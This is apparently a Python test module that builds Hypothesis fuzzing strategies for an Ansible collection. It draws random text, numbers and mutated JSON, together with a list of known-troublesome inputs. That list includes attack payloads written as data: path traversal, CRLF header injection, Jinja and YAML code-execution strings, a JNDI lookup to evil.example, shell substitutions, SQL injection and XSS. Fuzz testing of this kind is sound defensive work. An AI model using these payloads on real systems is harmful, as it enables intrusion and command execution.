# Copyright: (c) 2026, the community.scalingo authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What is drawn: texts that break something, and JSON of any form."""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

Strategy = st.SearchStrategy[Any]

# Each of these has broken some program: paths, URLs, control characters and halves of characters, lookalikes, lengths,
# other types, templates, commands, markup, dates.
NASTY = (
    *("", " ", ".", "..", "../..", "../users/self", "..%2fapps", "%2e%2e", "%2E%2E%2F", "%252e%252e", "..;", "./x"),
    *("x/..", "a/b", "a\\b", "..\\..", "x?y=z", "x#y", "x;y", "x&y=z", "//evil.example", "http://evil.example/"),
    *("\r\nX-Evil: 1", "x\r\n\r\nGET / HTTP/1.1", "\x00", "x\x00y", "\x1b[31m", "\ud800", "x\udfffy", "\ufeffx"),
    *("\u202egnp", "\u2028", "web\n", "web ", " web", "Web", "w\u0435b", "we\u017f", "\u0661\u0662\u0663"),
    *("\uff57\uff45\uff42", "x" * 64, "x" * 65, "x" * 10_000, "é" * 64, "-", "_", "null", "None", "true", "0", "-1"),
    *("1e9", "nan", "[]", "{}", "~", "*", "{{ 7 * 7 }}", "{{ lookup('pipe', 'id') }}", "{% raw %}", "{# x"),
    *("!unsafe x", "!!python/object/apply:os.system ['id']", "${jndi:ldap://evil.example}", "$(id)", "`id`", "%s%n"),
    *("{0.__class__}", "' OR 1=1 --", "<script>alert(1)</script>", "]]>", "&amp;&#0;"),
    *("2026-11-23T10:00:00", "2026-11-23", "2016-12-31T23:59:60Z", "2026-11-23T10:00:00.123456789012Z"),
    *("2026-11-23T10:00:00+99:99", "2026-02-30T10:00:00Z", "0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59"),
    "VALUE_SPECIFIED_IN_NO_LOG_PARAMETER",
)

nasty = st.sampled_from(NASTY)
# Surrogates, which are no characters, too.
any_text = st.text(st.characters(exclude_categories=()), max_size=80)
texts = st.one_of(nasty, any_text, st.builds(lambda one, other: one + other, nasty, nasty))
names = st.from_regex(r"[a-z0-9_-]{1,64}", fullmatch=True)

# Integers beyond the largest float are left out: Ansible itself breaks where an option is to be a number of seconds.
numbers = st.one_of(
    st.integers(-3, 3),
    st.integers(-(10**300), 10**300),
    st.sampled_from((2**31, 2**63, -(2**64), 10**100, -(10**300))),
    st.floats(),
)
scalars = st.one_of(st.none(), st.booleans(), numbers, texts)
# What Python's JSON can write, NaN and half characters included.
json_values = st.recursive(
    scalars,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(texts, inner, max_size=4)),
    max_leaves=12,
)


@st.composite
def mutations(draw: Any, value: Any, others: Strategy = json_values) -> Any:
    """Draw a JSON value in which something, at some place, is missing, doubled, or of another form."""
    if not isinstance(value, (dict, list)) or not value or draw(st.integers(0, 4)) == 0:
        return draw(others)
    places = list(value) if isinstance(value, dict) else list(range(len(value)))
    place = draw(st.sampled_from(places))
    what = draw(st.sampled_from(("inside", "inside", "inside", "gone", "more")))
    changed = value.copy()
    if what == "inside":
        changed[place] = draw(mutations(value[place], others))
    elif what == "gone":
        del changed[place]
    elif isinstance(changed, dict):
        changed[draw(texts)] = draw(others)
    else:
        changed.append(draw(st.one_of(others, st.just(value[place]))))
    return changed
